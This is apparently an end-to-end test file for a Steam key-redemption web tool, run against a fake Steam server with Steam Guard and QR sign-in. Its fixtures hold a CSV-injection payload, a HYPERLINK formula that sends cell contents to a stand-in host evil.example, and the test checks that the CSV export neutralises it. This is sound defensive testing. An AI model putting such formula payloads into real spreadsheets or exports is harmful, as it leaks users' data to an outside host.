/**
 * The whole product, end to end: Chromium on the page of the built binary
 * (`node dist/bin/steam-key.js serve`, as a user runs it), whose steam-user
 * signs in to the fake Steam (test/fake-steam) with an e-mail Steam Guard
 * code and redeems keys there — then again with a QR code, through the real
 * steam-session, which the fake's Steam app scans and approves. The server process trusts the fake's test CA
 * through NODE_EXTRA_CA_CERTS.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { fileURLToPath } from 'node:url';
import t from 'tap';
import { startFakeSteam } from '../fake-steam/fake-steam.js';
import { allDone, downloads, openPage, readQr, tableRows, textOf, until, withBrowser } from '../helpers/browser.js';

const BINARY = fileURLToPath(new URL('../../dist/bin/steam-key.js', import.meta.url));
const PASSWORD = 'correct horse battery staple';

const steam = await startFakeSteam({
  accounts: [
    { accountName: 'alice', password: PASSWORD, country: 'DE', guard: { type: 'email', domain: 'example.org', codes: ['GOOD1'] } },
    // A QR code is for accounts with the Steam app (Steam's rule): bob has it.
    { accountName: 'bob', password: 'not used', country: 'FR', guard: { type: 'authenticator', codes: ['B0B42'], approvable: true } },
  ],
  keys: {
    'AAAAA-BBBBB-CCCCC': { packages: [{ id: 31337, name: 'Fake Game' }] },
    'DDDDD-EEEEE-FFFFF': { detail: 9, packages: [{ id: 4242, name: 'Owned Game' }] },
    // Package names are the publisher's: these would be formulas in a spreadsheet.
    'GGGGG-HHHHH-IIIII': { packages: [{ id: 666, name: '=HYPERLINK("https://evil.example/?"&A1,"Bonus")' }, { id: 667, name: '@SUM(1+1)' }] },
    'JJJJJ-KKKKK-LLLLL': { packages: [{ id: 4343, name: 'QR Game' }] },
  },
});
t.teardown(() => steam.close());

const child = spawn(process.execPath, [BINARY, 'serve', '--port', '0', '--pause', '0', '--sign-in-backoff', '0', '--steam-proxy', steam.proxyUrl], {
  stdio: ['ignore', 'pipe', 'pipe'],
  env: { ...process.env, NODE_EXTRA_CA_CERTS: steam.caPath },
});
let output = '';
child.stdout.setEncoding('utf8').on('data', (s: string) => (output += s));
child.stderr.setEncoding('utf8').on('data', (s: string) => (output += s));
const exited = once(child, 'exit');
t.teardown(async () => {
  if (child.exitCode === null) child.kill('SIGTERM');
  await exited;
});
// The binary starts up (steam-user takes a while to load) while Chromium does.
const listening = new Promise<string>((resolve, reject) => {
  const onData = (): void => {
    const found = /listening url=(\S+)/.exec(output);
    if (found) resolve(found[1]!);
  };
  child.stdout.on('data', onData);
  void exited.then(() => reject(new Error(`steam-key serve exited:\n${output}`)));
});
listening.catch(() => undefined); // awaited below; not an unhandled rejection meanwhile

await withBrowser(t, 'the page of the built binary, against the fake Steam', async (t, browser) => {
  const url = await listening;
  const page = await openPage(t, browser, url, { acceptDownloads: true });
  await page.fill('#account-name', 'alice');
  await page.fill('#password', PASSWORD);
  await page.press('#password', 'Enter');
  t.match(await textOf(page, '#guard-message', /example\.org/), /e-mailed to your address at \*@example\.org/, 'steam-user asked for the e-mailed code');
  const codeAsked = `!document.querySelector('#guard-button').disabled && document.querySelector('#guard-code').value === ''`;
  for (const wrong of ['WRONG1', 'WRONG2']) {
    await page.fill('#guard-code', wrong);
    await page.press('#guard-code', 'Enter');
    await until(page, codeAsked, 'the code asked again');
    t.match(await textOf(page, '#guard-message', /wrong/), /^That code was wrong\./, 'a wrong code is called wrong');
  }
  // The third wrong code ends the sign-in through the real steam-user too, as the README says.
  await page.fill('#guard-code', 'WRONG3');
  await page.press('#guard-code', 'Enter');
  t.equal(await textOf(page, '#sign-in-error', /./), 'The Steam Guard code was wrong or has expired. Sign in again to get a new one.');
  t.ok(await page.isHidden('#guard'), 'the sign-in form is back');
  t.equal(await page.evaluate('document.activeElement.id'), 'password', 'at the password, still filled in: Enter signs in again');
  await page.press('#password', 'Enter');
  await textOf(page, '#guard-message', /example\.org/);
  await until(page, codeAsked, 'a new code asked');
  await page.fill('#guard-code', 'GOOD1');
  await page.press('#guard-code', 'Enter');
  t.equal(await textOf(page, '#account', /alice/), 'Signed in as alice');
  t.same(
    steam.log.flatMap((e) => (e.type === 'guard-code' ? [e.accepted] : [])),
    [false, false, false, true],
    'the fake Steam checked every code',
  );

  await page.fill('#keys-text', 'From the shop: aaaaa-bbbbb-ccccc and DDDDD-EEEEE-FFFFF.');
  t.equal(await textOf(page, '#key-count', /found/), '2 new keys found');
  await page.click('#redeem');
  await allDone(page, 2);
  const rows = await tableRows(page);
  t.match(rows, [
    { key: 'AAAAA-BBBBB-CCCCC', status: 'activated', details: 'Fake Game (sub 31337)' },
    { key: 'DDDDD-EEEEE-FFFFF', status: 'already-owned', details: /already own this.*Owned Game \(sub 4242\)/ },
  ]);
  t.same(steam.keysReceived, ['AAAAA-BBBBB-CCCCC', 'DDDDD-EEEEE-FFFFF'], 'Steam got each key once, upper-cased');

  // A key whose packages are named like formulas: shown as text, and neutralised in the CSV (OWASP, CSV injection).
  await page.fill('#keys-text', 'GGGGG-HHHHH-IIIII');
  await page.click('#redeem');
  await allDone(page, 3);
  t.match((await tableRows(page))[2], { key: 'GGGGG-HHHHH-IIIII', status: 'activated', details: /=HYPERLINK\("https:\/\/evil\.example.*@SUM\(1\+1\)/ });
  const { csv, json, raw } = await downloads(page);
  t.equal(csv[2]!.packages, '666 =HYPERLINK("https://evil.example/?"&A1,"Bonus"); 667 @SUM(1+1)', 'the names, as they are');
  t.match(raw, /,"666 =HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Bonus""\); 667 @SUM\(1\+1\)",/, 'in one quoted cell: no separator in it starts a cell of its own');
  for (const row of csv) for (const [column, value] of Object.entries(row)) t.notMatch(value, /^[=+\-@\t\r]/, `${row.key} ${column}: no cell starts a formula`);
  t.equal(
    await page.evaluate(`import('/export.js').then((m) => [m.csvField('=1+2'), m.csvField('@SUM(A1)'), m.csvField('-1'), m.csvField('+1')].join(' '))`),
    `"'=1+2" "'@SUM(A1)" "'-1" "'+1"`,
    "and a cell that would start one gets a leading quote, in the page's own CSV writer",
  );
  t.same(json.keys[2]!.result?.packages.map((p) => p.name), ['=HYPERLINK("https://evil.example/?"&A1,"Bonus")', '@SUM(1+1)'], 'the JSON keeps the names as they are');

  await page.click('#sign-out');
  // The form shows once the server has confirmed the sign-out: wait for that, not for its title.
  await until(page, `!document.querySelector('#sign-in').hidden`, 'the sign-in form');
  t.ok(await page.isVisible('#sign-in'), 'signed out: the sign-in form again');
  t.notMatch(output, PASSWORD, 'the server never printed the password');
  t.notMatch(output, /GOOD1|WRONG/, 'nor a guard code');

  // Without the password: the page draws Steam's own challenge, follows it when it changes, and the app approves.
  await page.click('#qr-start');
  const first = await steam.app.nextChallenge();
  t.equal(await textOf(page, '#qr-link', /./), first, "the page offers Steam's challenge URL");
  t.equal(await readQr(browser, page, '#qr-picture'), first, 'and its QR code reads as that URL');
  const second = steam.app.newChallenge(first)!;
  await until(page, `document.querySelector('#qr-link').href === ${JSON.stringify(second)}`, 'the new challenge');
  t.pass('steam-session polled the new challenge: the page shows it');
  t.equal(await readQr(browser, page, '#qr-picture'), second, 'the code drawn is the new one');
  t.ok(steam.app.scan(second, 'bob'), "bob's Steam app scans it");
  t.equal(await textOf(page, '#qr-message', /Scanned/), 'Scanned — now approve the sign-in in the Steam app.');
  t.ok(steam.app.approve(second), 'and approves');
  t.equal(await textOf(page, '#account', /bob/), 'Signed in as bob', 'signed in, no password typed');
  await page.fill('#keys-text', 'JJJJJ-KKKKK-LLLLL');
  await page.click('#redeem');
  await until(page, `document.querySelector('tr[data-key="JJJJJ-KKKKK-LLLLL"]')?.dataset.status === 'activated'`, "bob's key activated");
  t.same(steam.keysReceived.slice(-1), ['JJJJJ-KKKKK-LLLLL'], "the key went to Steam on bob's sign-in");
  await page.click('#sign-out');
  await until(page, `!document.querySelector('#sign-in').hidden`, 'the sign-in form');
  t.ok(steam.log.filter((e) => e.type === 'logoff').length >= 2, 'signed out of Steam again');
});
